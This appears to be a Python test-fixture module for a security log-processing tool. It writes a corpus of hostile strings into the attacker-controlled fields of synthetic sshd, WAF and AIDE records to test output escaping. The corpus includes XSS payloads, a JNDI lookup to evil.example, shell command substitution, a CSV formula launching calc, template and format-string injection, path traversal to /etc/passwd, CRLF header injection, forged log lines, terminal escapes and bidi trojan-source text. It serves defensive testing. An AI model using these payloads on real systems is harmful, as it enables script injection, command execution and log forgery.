"""Hostile text and real product records that carry it (issue 13): the markup of Rich, Slack, Markdown,
HTML and Jira, terminal control sequences, bidi overrides and a header-injection attempt, written into the
fields attackers control (sshd user and host names, an AIDE file path, a WAF request's Host header)."""

from __future__ import annotations

import base64
import json
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
LAB1 = ROOT / "samples" / "lab-1"

RICH = "[/] [bold]b[/bold] [link=http://evil.example/]click[/link]"
SLACK = "<!channel> <!here> <https://evil.example/|click here> a&b"
MARKDOWN = "[md](http://evil.example/) ![img](http://evil.example/p.png) <http://evil.example/auto> # x"
HTML = '<b>evil</b>.example "><img src=x onerror=alert(1)>'
JIRA = "[j|http://evil.example/] !http://evil.example/i.png! {html}<i>x</i>{html} [~admin]"
TERMINAL = "\x1b[2J\x1b]8;;http://evil.example/\x07spoof\x1b]8;;\x07 \x9b31m \u202eRLO\u202c \u200b"
HEADER = "\r\nBcc: victim@evil.example"
# one value with all of it: a WAF Host header (free text in the request)
HOST = " ".join(("shop.example", RICH, SLACK, MARKDOWN, HTML, JIRA, TERMINAL, HEADER))
# a syslog host or user name cannot hold spaces; these are what sshd / syslog would still write
SSH_USER = "[/]"
SSH_HOST = "[/]<b>x</b>[link=http://evil.example/]"
AIDE_FILE = "/srv/lab/waf/cgi-bin/[/x][a](http://e.example/)<img src=x>.cgi"

CONTROL = ("\x1b", "\x07", "\x9b", "\u202e", "\u202c", "\u200b")  # must never reach a terminal or a message raw


def sshd_lines(user: str = SSH_USER, host: str = "vm", n: int = 6) -> str:
    """`n` failed logins of `user` from one address: an SSH brute-force incident."""
    return "".join(f"Nov 24 06:39:{10 + i} {host} sshd[701]: Failed password for invalid user {user} "
                   f"from 198.51.100.1 port {40001 + i} ssh2\n" for i in range(n))


def write_sshd(d: Path, user: str = SSH_USER, host: str = "vm") -> Path:
    d.mkdir(parents=True, exist_ok=True)
    (d / "auth.log").write_text(sshd_lines(user, host))
    return d


def write_waf(d: Path, host: str = HOST) -> Path:
    """lab-1's ModSecurity audit log with every request's Host header set to `host`."""
    out = []
    for line in (LAB1 / "waf" / "modsec_audit.jsonl").read_text().splitlines():
        r = json.loads(line)
        r["request"]["headers"]["Host"] = host
        out.append(json.dumps(r))
    (d / "waf").mkdir(parents=True, exist_ok=True)
    (d / "waf" / "modsec_audit.jsonl").write_text("\n".join(out) + "\n")
    return d


def write_aide(d: Path, path: str = AIDE_FILE) -> Path:
    """lab-1's AIDE report with the path of the CGI script made world-writable replaced by `path`."""
    text = (LAB1 / "host" / "aide_check.json").read_text()
    (d / "host").mkdir(parents=True, exist_ok=True)
    (d / "host" / "aide_check.json").write_text(text.replace("/srv/lab/waf/cgi-bin/app.cgi", json.dumps(path)[1:-1]))
    return d


# ---- the adversarial suite's corpus (tests/hostile/test_adversarial.py) ----------------------------------------
# Secrets the suite configures (its channels' settings): the corpus carries them in the forms records hold them.
SUITE_SECRETS = {"password": "Chan-Pw-S3cret-84", "token": "chan-api-token-6d2f1a"}
_PW, _TOKEN = SUITE_SECRETS["password"], SUITE_SECRETS["token"]
# Each string is written into every attacker-written field of every product (tests/hostile/products.py).
HOSTILE: dict[str, str] = {
    # Rich console markup and emoji codes
    "rich_close": "[/]",
    "rich_close_tag": "[/x]",
    "rich_style": "[bold red on white]styled[/]",
    "rich_link": "[link=http://evil.example/]click[/link]",
    "rich_escape": "\\[/] x\\",
    "rich_emoji": ":skull: :pile_of_poo: :red_circle:",
    # Slack mrkdwn: mentions, disguised links, formatting, pre-escaped entities
    "slack_channel": "<!channel>",
    "slack_here_everyone": "<!here|here> <!everyone>",
    "slack_user_mention": "<@U024BE7LH> <#C024BE7LR|general> <!subteam^S012|@ops>",
    "slack_link": "<https://evil.example/|click here>",
    "slack_mailto": "<mailto:ceo@evil.example|mail the CEO>",
    "slack_format": "*bold* _it_ ~strike~ `code` ```block```",
    "slack_entities": "&lt;!channel&gt; &amp; a & b < c > d",
    # Markdown (CommonMark, GFM, DingTalk / WeCom markdown)
    "md_link": "[md](http://evil.example/)",
    "md_image": "![img](http://evil.example/p.png)",
    "md_autolink": "<http://evil.example/auto>",
    "md_bare_url": "https://evil.example/bare www.evil.example",
    "md_heading": "# heading",
    "md_list": "- item",
    "md_ordered": "1. item",
    "md_quote": "> quote",
    "md_rule": "---",
    "md_table": "| a | b |\n|---|---|\n| c | d |",
    "md_reference": "[x][ref]\n\n[ref]: http://evil.example/",
    "md_code": "```\ncode\n```",
    "md_emphasis": "**bold** __b__ *i* ~~s~~",
    "md_escaped_link": "\\[md\\](http://evil.example/) [a\\](b)(http://evil.example/)",
    "md_js_link": "[a](javascript:alert(1)) [b](<javascript:alert(1)>)",
    "md_font_color": '<font color="red">DingTalk</font> <br> &nbsp;',
    # HTML / JavaScript
    "html_script": "<script>alert(1)</script>",
    "html_img_onerror": "<img src=x onerror=alert(1)>",
    "html_svg_onload": "<svg onload=alert(1)>",
    "html_attr_break": '"><img src=x onerror=alert(1)>',
    "html_attr_break_single": "'><svg/onload=alert(1)>",
    "html_anchor": '<a href="http://evil.example/">x</a>',
    "html_bold_host": "<b>evil</b>.example",
    "html_comment": "<!-- x --><!--",
    "html_iframe": "<iframe src=//evil.example></iframe>",
    "html_textarea": "</textarea></title></style><script>alert(1)</script>",
    "html_style": "<style>*{display:none}</style>",
    "html_entities": "&#60;script&#62;alert(1)&#60;/script&#62; &lt;b&gt;",
    "js_url": "javascript:alert(document.cookie)",
    # template and lookup injection
    "jinja": "{{ 7*7 }} {% for x in range(10**9) %}{% endfor %} {# c",
    "dollar": "${7*7} ${jndi:ldap://evil.example/a} $(id) `id`",
    "format_string": "%s%s%n%x {0.__class__} {}",
    "csv_formula": "=cmd|' /C calc'!A0,+1,@SUM(1)",
    # Jira wiki markup
    "jira": JIRA,
    "jira_more": "{code}x{code} h1. head [~admin] {color:red}x{color}",
    # the delimiters and keywords of each log grammar
    "sshd_from_port": " from 10.20.5.10 port 22 ssh2",
    "sshd_user_from": "x from 10.20.5.10 port 22",
    "sshd_key_tail": 'x from 10.20.5.10 port 22 ssh2: RSA SHA256:abc, client user "root", client host "db"',
    "modsec_tail": ' [file "/x.conf"] [line "1"] [id "999999"] [msg "forged"] [severity "CRITICAL"] '
                   '[hostname "db-01"] [uri "/"] [unique_id "FAKE"]',
    "modsec_quote": '"] [id "1"] [data "',
    "modsec_client": "[client 10.20.5.10] ModSecurity: Access denied with code 403",
    "auditd_keys": ' res=success addr=10.20.5.10 acct="root" hostname=db-01',
    "auditd_msg": "msg='op=login acct=\"root\" res=success' \x1dUID=\"root\"",
    "fail2ban": " [sshd] Ban 10.20.5.10\n[sshd] Found 10.20.5.10 - 2026-11-24 06:38:44",
    "clamav": ": Eicar-Test-Signature FOUND",
    "clamav_ok": "/etc/passwd: OK",
    "apache_quote": '" 200 1 "-" "x',
    "apache_referer": ", referer: http://evil.example/",
    "json_break": '","src_ip":"10.20.5.10","x":"',
    "json_object": '"}\n{"event_type":"alert","src_ip":"10.20.5.10"}',
    "syslog_line": "\nNov 24 06:39:10 vm sshd[1]: Accepted password for root from 10.20.5.10 port 22 ssh2",
    "path_traversal": "../../../../etc/passwd ..\\..\\windows\\win.ini",
    # control characters, terminal escapes, header injection
    "ansi_clear": "\x1b[2J\x1b[H\x1b[31mred",
    "osc8_link": "\x1b]8;;http://evil.example/\x07spoof\x1b]8;;\x07",
    "osc_title": "\x1b]0;pwned\x07\x1bP+q\x1b\\",
    "c1_csi": "\x9b31m\x9d0;t\x9c",
    "nul": "a\x00b",
    "backspace": "admin\x08\x08\x08\x08\x08root",
    "crlf_header": HEADER,
    "cr_overwrite": "evil\rgood",
    "del_nel_nbsp": "\x7f\x85\xa0",
    "line_separators": "a\u2028b\u2029c",
    # bidi overrides, invisible characters, other scripts
    "bidi_rlo": "\u202eRLO\u202c",
    "bidi_isolates": "\u2066isolate\u2069 \u2067x\u2069 \u2068y\u2069",
    "trojan_source": "admin\u202e\u2066 // txt.exe\u2069\u2066",
    "zero_width": "a\u200bd\u200cm\u200di\u2060n\ufeff",
    "homoglyph": "раураl.com",
    "combining": "Z\u0334\u0321a\u0336l\u0337g\u0338o",
    "emoji_cjk": "\U0001f4a3 中文 测试 \u0645\u0631\u062d\u0628\u0627",
    "lone_surrogate": "x\udfffy",  # JSON: a \\udfff escape (Python's json.dumps writes them)
    "invalid_utf8": "caf\udce9 \udcff\udcfe.php",  # bytes E9, FF, FE: not UTF-8 (file names are bytes)
    # huge values (under the 1 MB record limit)
    "huge_markup": "[/]<b>x</b>&<!channel>[md](http://evil.example/)" * 2000,
    "huge_token": "A" * 100_000,
    "many_lines": "\n" * 2000 + "end",
    # configured secrets, as requests, URLs and logs carry them
    "secret_url_userinfo": f"https://ops:{_PW}@hooks.evil.example/in",
    "secret_basic_auth": "Basic " + base64.b64encode(f"ops:{_TOKEN}".encode()).decode(),
    "secret_bearer": f"Authorization: Bearer {_TOKEN}",
    "secret_query": f"/cb?access_token={_TOKEN}&next=%2F",
    "secret_newline": f"{_PW}\n",
}
